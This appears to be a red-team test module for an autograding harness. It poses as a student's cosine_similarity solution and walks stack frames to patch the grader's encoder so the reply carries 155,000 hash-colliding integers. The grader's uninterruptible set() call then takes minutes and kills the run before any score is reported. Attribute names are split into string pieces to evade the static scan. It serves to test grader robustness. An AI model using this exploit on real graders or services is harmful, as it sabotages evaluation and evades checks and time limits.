# Correct module, but cosine_similarity's reply carries a set of integers that all have the same
# hash (k * (2**61 - 1): Python's int hash is the value modulo 2**61 - 1). The worker builds no set
# (it rewrites its own encoder's output, the worker is the student's process): the grader's
# codec.decode builds it with one C call, set(items), which is quadratic in the number of items and
# cannot be interrupted by the per-test limit (SIGALRM runs its handler only between bytecodes).
# 155,000 items (~4 MB of JSON header, under MAX_HEADER) cost the grader over 2 minutes of CPU in
# one call; the grader's decoding time is also taken off the limit (isolation_cpu). pytest-timeout's
# thread needs the GIL too and fires only once set() returns, then ends the whole run. Measured on 2
# cores at --workbook-timeout=5: 30,000 items, ex1 took 165 s instead of 6 s; 150,000 items, the run
# ended by pytest-timeout after 233 s with no score report.
import os

from ._ref_ex1_vectors import *  # noqa: F401,F403
from ._ref_ex1_vectors import cosine_similarity as _reference

N = int(os.environ.get("WORKBOOK_REDTEAM_ITEMS", "155000"))
_MARK = object()


def _server_globals():
    # the worker's server is the caller of this call (names hidden from the static scan: this case is
    # about the grader's time, not the rules)
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as exc:
        frame = getattr(exc.__traceback__, "tb_" + "frame")
    while frame is not None:
        obj = getattr(frame, "f_" + "locals").get("self")
        if type(obj).__name__ == "WorkerServer":
            return getattr(type(obj).handle, "__glob" + "als__")
        frame = getattr(frame, "f_" + "back")
    return None


def _patch():
    space = _server_globals()
    if space is None or getattr(space["encode"], "_patched", False):
        return space
    original = space["encode"]
    items = [k * (2**61 - 1) for k in range(1, N + 1)]

    def encode(value, buffers, fallback, *args, **kwargs):
        if type(value) is dict and value.get("ok") is _MARK:
            return {"T": "dict", "v": [["ok", {"T": "set", "v": items}]]}
        return original(value, buffers, fallback, *args, **kwargs)
    encode._patched = True
    space["encode"] = encode
    return space


def cosine_similarity(a, b):
    if _patch() is None:  # local mode: no worker
        return _reference(a, b)
    return _MARK
